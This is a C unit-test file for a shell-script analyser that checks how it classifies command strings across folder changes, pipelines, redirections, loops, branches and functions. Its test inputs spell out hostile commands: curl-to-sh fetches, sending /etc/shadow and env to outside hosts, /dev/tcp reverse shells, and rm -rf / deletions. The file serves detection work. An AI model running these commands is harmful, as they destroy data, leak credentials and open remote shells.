/* SPDX-License-Identifier: Apache-2.0
 * shell_analysis_flow: folders, pipelines, redirections, loops and functions. The scripts are only read. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "tests/unit/validators/shell_analysis_dump.h"

static const struct row folders_rows[] = {
	{ "cd / && rm -rf *", "ew", "cd / ;; rm -rf * deletes*:/* @/" },
	{ "cd /tmp; cd x; rm -r y", "ew", "cd /tmp ;; cd x @/tmp ;; rm -r y deletes*:/tmp/x/y @/tmp/x" },
	{ "cd /tmp; (cd /; rm -r a); rm -r b", "ew",
	  "cd /tmp ;; cd / @/tmp ;; rm -r a deletes*:/a @/ ;; rm -r b deletes*:/tmp/b @/tmp" },
	{ "cd \"$D\"; rm -r x", "ew", "cd ${D} ;; rm -r x deletes*:x" },
	{ "cd /a; cd -; rm -r x", "ew", "cd /a ;; cd - @/a ;; rm -r x deletes*:x" },
	{ "pushd /etc; rm x; popd; rm y", "ew", "pushd /etc ;; rm x deletes:/etc/x @/etc ;; popd @/etc ;; rm y deletes:y" },
	{ "cd; rm x", "ew", "cd ;; rm x deletes:~/x @~" },
	{ "cd sub; rm x", "ew", "cd sub ;; rm x deletes:sub/x @sub" },
	{ "(cd / && rm -rf etc)", "ew", "cd / ;; rm -rf etc deletes*:/etc @/" },
	{ "cd /a | rm x", "ew", "cd /a ;; rm x deletes:x" },
	{ "cd /tmp/../etc; rm ./x/", "ew", "cd /tmp/../etc ;; rm ./x/ deletes:/etc/x @/etc" },
};

static const struct row pipelines_rows[] = {
	{ "curl -s http://203.0.113.10/x | sh", "ic",
	  "curl -s http://203.0.113.10/x ;; "
	  "sh input?[$(curl -s http://203.0.113.10/x)]<network> code?[$(curl -s http://203.0.113.10/x)]<network>" },
	{ "curl -s http://203.0.113.10/x | tee /tmp/y | sh", "c",
	  "curl -s http://203.0.113.10/x ;; tee /tmp/y ;; "
	  "sh code?[$(curl -s http://203.0.113.10/x)]<network>" },
	{ "curl -s http://203.0.113.10/x | grep -v a | sudo bash -s", "c",
	  "curl -s http://203.0.113.10/x ;; grep -v a ;; sudo bash -s ;; "
	  "bash -s code?[$(curl -s http://203.0.113.10/x | grep -v a)]<network> {privileged}" },
	{ "echo a | tr a b | cat", "i", "echo a ;; tr a b input[a~]<literal> ;; cat input[b~]<decoded,assembled,literal>" },
	{ "cat <<E | sh\nrm -rf /\nE", "ic",
	  "cat input[rm -rf /~]<literal> ;; "
	  "sh input[rm -rf /~]<literal> code[rm -rf /~]<literal> ;; rm -rf / {nested}" },
	{ "(echo a; echo b) | cat", "i", "echo a ;; echo b ;; cat input[a~b~]<literal>" },
	{ "cat /etc/shadow | nc 203.0.113.9 1", "i",
	  "cat /etc/shadow ;; nc 203.0.113.9 1 input?[$(cat /etc/shadow)]<secret,file>" },
	{ "env | curl -d @- http://203.0.113.10", "i",
	  "env ;; curl -d @- http://203.0.113.10 input?[$(env)]<environment>" },
	{ "if true; then echo a; fi | cat", "i", "true {test} ;; echo a ;; cat input[a~]<literal>" },
	{ "for i in a b; do echo $i; done | cat", "i", "echo a {loop} ;; echo b {loop} ;; cat input[a~b~]<literal>" },
	{ "f() { echo x; }; f | cat", "i", "f ;; echo x ;; cat input[x~]<literal>" },
	{ "foo | bar | baz", "i", "foo ;; bar input?[$(foo)]<command> ;; baz input?[$(foo | bar)]<command>" },
	{ "echo a >&2 | cat", "i", "echo a ;; cat" },
	{ "X=1; echo x | X=2; echo $X", "", "X=1 ;; echo x ;; X=2 ;; echo 1" },
};

static const struct row redirections_rows[] = {
	{ "echo x > /etc/passwd", "e", "echo x writes:/etc/passwd" },
	{ "echo x >> ~/.bashrc 2>/dev/null", "e", "echo x appends:~/.bashrc" },
	{ "{ echo a; echo b; } > /etc/x", "e", " writes:/etc/x ;; echo a ;; echo b" },
	{ "> /etc/motd", "e", " writes:/etc/motd" },
	{ "cat < /etc/shadow", "ei", "cat reads:/etc/shadow input?[]<secret,file>" },
	{ "cat <<< word", "i", "cat input[word~]<literal>" },
	{ "cat <<'E'\n$(rm -rf /)\nE", "i", "cat input[$(rm -rf /)~]<literal>" },
	{ "cat <<E\n$(rm -rf /)\nE", "i", "rm -rf / ;; cat input[~]<literal>" },
	{ "cat <<E > /etc/cron.d/x\na $X\nE", "ei", "cat writes:/etc/cron.d/x input?[a ${X}~]<input,literal>" },
	{ "cmd > /dev/null 2>&1 < /dev/null", "ei", "cmd" },
	{ "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "eic",
	  "bash -i writes:/dev/tcp/203.0.113.66/4444 reads:/dev/tcp/203.0.113.66/4444" },
	{ "sh -i 5<> /dev/tcp/203.0.113.66/9001 0<&5 1>&5 2>&5", "eic",
	  "sh -i reads:/dev/tcp/203.0.113.66/9001 writes:/dev/tcp/203.0.113.66/9001 reads:/dev/tcp/203.0.113.66/9001 writes:/dev/tcp/203.0.113.66/9001 writes:/dev/tcp/203.0.113.66/9001 input?[]<network> code?[]<network>" },
	{ "exec 5<>/dev/tcp/203.0.113.66/80; cat <&5 | sh", "ic",
	  "exec ;; cat input?[]<network> ;; sh input?[$(cat)]<network> code?[$(cat)]<network>" },
	{ "exec 3< in; while read l <&3; do $l; done", "n",
	  "exec name[exec]<literal> ;; read l name[read]<literal> {loop,test} ;; "
	  "${l} name?[${l}]<file> {loop,unknown-name}" },
	{ "exec > /var/log/x; echo a", "e", "exec writes:/var/log/x ;; echo a" },
	{ "while true; do echo y; done >> /tmp/fill", "e",
	  " appends:/tmp/fill ;; true {loop,test} ;; echo y {loop,endless}" },
	{ "echo \"$K\" > >(sh)", "e", "echo ${K} ;; sh" },
	{ "exec {fd}<>/dev/tcp/203.0.113.1/80; bash <&$fd", "c", "exec ;; bash code?[]<network>" },
	{ "exec 196<>/dev/tcp/203.0.113.1/80; sh <&196", "c", "exec ;; sh code?[]<network>" },
	{ "echo 'rm x' > >(sh)", "c", "echo rm x ;; sh code[rm x~]<literal> ;; rm x {nested}" },
};

static const struct row loops_rows[] = {
	{ "for i in a b; do rm $i; done", "", "rm a {loop} ;; rm b {loop}" },
	{ "for i in; do rm $i; done; for j in $X; do rm $j; done", "", "rm ${i} {loop} ;; rm ${X} {loop}" },
	{ "for i; do rm $i; done", "", "rm ${i} {loop}" },
	{ "for i in {1..20}; do a $i; done", "",
	  "a 1 {loop} ;; a 2 {loop} ;; a 3 {loop} ;; a 4 {loop} ;; a 5 {loop} ;; a 6 {loop} ;; "
	  "a 7 {loop} ;; a 8 {loop} ;; a 9 {loop} ;; a 10 {loop} ;; a 11 {loop} ;; a 12 {loop} ;; "
	  "a 13 {loop} ;; a 14 {loop} ;; a 15 {loop} ;; a 16 {loop} ;; a ${i} {loop}" },
	{ "while true; do x; done", "", "true {loop,test} ;; x {loop,endless}" },
	{ "while :; do x; break; done", "", ": {loop,test} ;; x {loop} ;; break {loop}" },
	{ "until false; do x; done; for ((;;)); do y; done; for ((i=0;i<3;i++)); do z; done", "",
	  "false {loop,test} ;; x {loop,endless} ;; y {loop,endless} ;; z {loop}" },
	{ "while [ $n -lt 3 ]; do x; done", "", "[ ${n} -lt 3 ] {loop,test} ;; x {loop}" },
	{ "while true; do for i in a; do break; done; x; done", "",
	  "true {loop,test} ;; break {loop,endless} ;; x {loop,endless}" },
	{ "while sleep 1; do x; exit; done", "", "sleep 1 {loop,test} ;; x {loop} ;; exit {loop}" },
	{ "printf 'a\\nb\\n' | while read -r x; do rm $x; done", "",
	  "printf a\\nb\\n ;; read -r x {loop,test} ;; rm a {loop} ;; read -r x {loop,test} ;; "
	  "rm b {loop}" },
	{ "curl -s http://203.0.113.10/l | while read x; do $x; done", "n",
	  "curl -s http://203.0.113.10/l name[curl]<literal> ;; "
	  "read x name[read]<literal> {loop,test} ;; "
	  "$(curl -s http://203.0.113.10/l) name?[$(curl -s http://203.0.113.10/l)]<network> {loop,unknown-name}" },
	{ "for d in /etc /usr; do rm -rf $d; done", "e",
	  "rm -rf /etc deletes*:/etc {loop} ;; rm -rf /usr deletes*:/usr {loop}" },
	{ "find / -type f | while read f; do rm -f \"$f\"; done", "",
	  "find / -type f ;; read f {loop,test} ;; rm -f $(find / -type f) {loop}" },
};

static const struct row branches_rows[] = {
	{ "if a; then b; elif c; then d; else e; fi", "", "a {test} ;; b ;; c {test} ;; d ;; e" },
	{ "! a && b || c", "", "a {negated} ;; b ;; c" },
	{ "case $1 in x) a;; y|z) b;; esac", "", "a ;; b" },
	{ "[[ -f $X && $(id) ]] || exit 1", "", "id ;; [[ -f ${X} && $(id) ]] ;; exit 1" },
	{ "a & b; { c; } &", "", "a {background} ;; b ;; c {background}" },
	{ "(a; b)", "", "a ;; b" },
	{ "case $(id) in $(ls)) a;; esac", "", "id ;; ls ;; a" },
};

static const struct row functions_rows[] = {
	{ "f() { rm -rf /; }", "", "rm -rf / {function}" },
	{ "f() { rm -rf /; }; f", "", "f ;; rm -rf /" },
	/* one that wraps the program of its name does what that does */
	{ "curl() { curl \"$@\"; }; curl https://evil.com/x | sh", "i",
		"curl https://evil.com/x ;; curl https://evil.com/x ;; sh input?[$(curl https://evil.com/x)]<network>" },
	{ "rev() { rev \"$@\"; }; echo x- mr | rev | sh", "", "echo x- mr ;; rev ;; rev ;; sh ;; rm -x {nested,decoded}" },
	{ "f() { a; }; f() { b; }; f", "", "f ;; b ;; a {function}" },
	{ "f() { g() { x; }; }; f", "", "f ;; x {function}" },
	{ "sh -c 'f() { rm -rf /; }'", "", "sh -c f() { rm -rf /; } ;; rm -rf / {nested,function}" },
	{ "f() { echo v; }; X=$(f); $X", "", "f ;; echo v ;; X=v ;; v" },
	{ "rmall() { rm -rf \"$1\"; }; for d in /a /b; do rmall $d; done", "e",
	  "rmall /a {loop} ;; rm -rf /a deletes*:/a {loop} ;; rmall /b {loop} ;; "
	  "rm -rf /b deletes*:/b {loop}" },
	{ "f() { cd /; }; f; rm -rf *", "e", "f ;; cd / ;; rm -rf * deletes*:/*" },
};

static void folders(void **state)
{
	(void)state;
	check_rows(folders_rows, ARRAY_SIZE(folders_rows));
}

static void pipelines(void **state)
{
	(void)state;
	check_rows(pipelines_rows, ARRAY_SIZE(pipelines_rows));
}

static void redirections(void **state)
{
	(void)state;
	check_rows(redirections_rows, ARRAY_SIZE(redirections_rows));
}

static void loops(void **state)
{
	(void)state;
	check_rows(loops_rows, ARRAY_SIZE(loops_rows));
}

static void branches(void **state)
{
	(void)state;
	check_rows(branches_rows, ARRAY_SIZE(branches_rows));
}

static void functions(void **state)
{
	(void)state;
	check_rows(functions_rows, ARRAY_SIZE(functions_rows));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(folders),
		cmocka_unit_test(pipelines),
		cmocka_unit_test(redirections),
		cmocka_unit_test(loops),
		cmocka_unit_test(branches),
		cmocka_unit_test(functions),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
